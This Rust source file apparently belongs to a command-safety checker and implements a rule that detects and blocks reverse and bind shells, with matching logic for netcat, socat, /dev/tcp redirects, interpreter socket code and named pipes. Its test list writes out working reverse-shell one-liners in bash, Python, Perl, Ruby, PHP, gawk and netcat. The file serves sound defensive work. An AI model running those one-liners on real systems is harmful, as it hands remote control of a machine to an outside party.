//! A shell whose input and output are somebody else's: reverse and bind shells.

use super::Rule;
use super::interpreter::{Language, Source, code, source};
use super::view::{Program, View};
use crate::command::{Command, Redirect, Surroundings, Word};
use crate::read::Reading;

pub(super) const RULE: Rule = Rule {
    id: "shell.block.backdoor",
    key: "shell-block-backdoor",
    breaks,
    matches: &[
        "nc -e /bin/sh 10.0.0.1 44",
        "ncat --exec /bin/bash -l 44",
        "nc -lvnpe 44 /bin/sh; nc -lve /bin/sh",
        "socat TCP-LISTEN:44 EXEC:/bin/bash,pty",
        "bash -i >& /dev/tcp/10.0.0.1/44 0>&1",
        "sh -i 5<> /dev/tcp/10.0.0.1/44 0<&5 1>&5 2>&5",
        "exec 5<>/dev/tcp/10.0.0.1/44; sh <&5 >&5",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"x\",4));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        "perl -e 'use Socket;socket(S,2,1,6);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
        "ruby -rsocket -e 's=TCPSocket.new(\"x\",4);exec sprintf(\"/bin/sh -i <&%d\",s.fileno)'",
        "php -r '$s=fsockopen(\"x\",4);exec(\"/bin/sh -i <&3 >&3\");'",
        "mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 44 > f",
        "gawk 'BEGIN{s=\"/inet/tcp/0/x/44\";while(1){s |& getline c;c | getline}}'",
    ],
    spares: &[
        "nc -z localhost 80",
        "nc -l 8080",
        "socat - UNIX-CONNECT:/tmp/x",
        "cat < /dev/tcp/x.io/80",
        "exec 3<>/dev/tcp/x.io/80",
        "python3 -c 'import socket; print(socket.gethostname())'",
        "grep -rn socket src",
        "bash -i",
        "mkfifo f",
        "echo 'nc -e /bin/sh'",
        "timeout 1 bash -c 'echo > /dev/tcp/localhost/80'",
        "node -e 'require(\"net\").createServer().listen(0)'",
    ],
};

const NETCATS: &str = "nc ncat netcat nc.traditional nc.openbsd rustcat";

fn breaks(view: &View<'_>) -> Option<String> {
    let does = if view.program.is_any(NETCATS) {
        netcat(view.command.operands())
    } else if view.program.is("socat") {
        socat(view)
    } else {
        by_shell(view.command, view.program) || by_code(view)
    };
    does.then(|| view.shown())
}

fn netcat(words: &[Word]) -> bool {
    let mut words = words.iter().map(|word| word.literal().unwrap_or_else(|| word.prefix())).peekable();
    while let Some(text) = words.next() {
        if let Some(name) = text.strip_prefix("--") {
            let name = name.split('=').next().unwrap_or(name);
            if name.len() > 1 && ["exec", "sh-exec", "lua-exec"].iter().any(|long| long.starts_with(name)) {
                return true;
            }
        } else if let Some(letters) = text.strip_prefix('-') {
            // `-c` is TLS to one netcat and a command to another: a command has a path or a blank in it.
            let commands = letters.ends_with('c')
                && words
                    .peek()
                    .is_some_and(|next| next.contains(['/', ' ']) || next.ends_with("sh") || next.is_empty());
            if letters.contains('e') || commands {
                return true;
            }
        }
    }
    false
}

fn socat(view: &View<'_>) -> bool {
    let starts = |names: &'static [&'static str]| {
        view.command
            .operands()
            .iter()
            .map(|word| word.prefix().to_ascii_lowercase())
            .any(|text| names.iter().any(|name| text.starts_with(name)))
    };
    starts(&["exec:", "system:", "shell:"])
        && starts(&[
            "tcp", "udp", "openssl", "ssl", "sctp", "vsock", "proxy", "socks", "dccp", "ip:", "ip4", "ip6", "quic",
        ])
}

fn is_wire(redirect: &Redirect) -> bool {
    let prefix = redirect.target.prefix();
    prefix.starts_with("/dev/tcp/") || prefix.starts_with("/dev/udp/")
}

fn waits_for_orders(command: &Command, program: &Program) -> bool {
    Language::of(program).is_some_and(|language| {
        let interactive = command
            .operands()
            .iter()
            .filter_map(Word::literal)
            .any(|text| text.starts_with('-') && !text.starts_with("--") && text.contains('i'));
        match source(language, command.operands()) {
            Source::Stdin => command.input.text.is_none(),
            Source::File(_) | Source::Code(_) => false,
            Source::Nothing => interactive && language == Language::Shell,
        }
    })
}

fn by_shell(command: &Command, program: &Program) -> bool {
    command.redirects.iter().any(is_wire) && waits_for_orders(command, program)
}

fn by_code(view: &View<'_>) -> bool {
    if view.program.is_any("awk gawk") {
        return view.texts().any(|text| text.contains("/inet/") && text.contains("|&"));
    }
    let Some(language) = Language::of(view.program).filter(|language| *language != Language::Shell) else {
        return false;
    };
    let words = view.command.operands();
    let Some(text) = code(language, words).map(ToString::to_string) else { return false };
    const WIRES: &str = "socket.socket socket( Socket TCPSocket fsockopen pfsockopen net.connect net.Socket socket.tcp \
        createConnection create_connection stream_socket_client";
    const RUNS: [&str; 22] = [
        "dup2",
        "pty.spawn",
        "subprocess",
        "os.system",
        "/bin/sh",
        "/bin/bash",
        "exec(",
        "exec ",
        "exec{",
        "child_process",
        "shell_exec",
        "passthru",
        "proc_open",
        "popen",
        "os.execute",
        "io.popen",
        "system(",
        "system ",
        "system$",
        "IO.popen",
        "execl",
        "execv",
    ];
    WIRES.split(' ').any(|wire| text.contains(wire)) && RUNS.iter().any(|run| text.contains(run))
}

/// A shell and a wire that only the whole text puts together: through a descriptor, through a named pipe.
pub(super) fn wired(reading: &Reading, surroundings: &Surroundings) -> Option<String> {
    let programs: Vec<(&Command, Program)> =
        reading.commands.iter().map(|command| (command, Program::of(command, surroundings))).collect();
    let waiting = || programs.iter().find(|(command, program)| waits_for_orders(command, program));
    let wire = programs.iter().any(|(command, program)| {
        let stays = command.words.is_empty() || program.is("exec");
        stays && command.redirects.iter().any(is_wire)
    });
    if wire {
        let follows = programs.iter().find(|(command, _)| {
            command.words.first().is_some_and(|word| word.literal().is_none() && word.prefix().is_empty())
        });
        let follows = waiting().or(follows).or_else(|| programs.iter().find(|(_, program)| program.is("eval")));
        return follows.map(|(command, _)| command.source.clone());
    }
    let pipe = programs.iter().any(|(command, program)| {
        program.is("mkfifo")
            || (program.is("mknod") && command.operands().iter().any(|word| word.literal() == Some("p")))
    });
    let client = programs.iter().any(|(command, program)| {
        program.is_any(NETCATS)
            || program.is_any("telnet socat")
            || (program.is("openssl") && command.operands().iter().any(|word| word.literal() == Some("s_client")))
    });
    if pipe && client {
        return waiting().map(|(command, _)| command.source.clone());
    }
    None
}
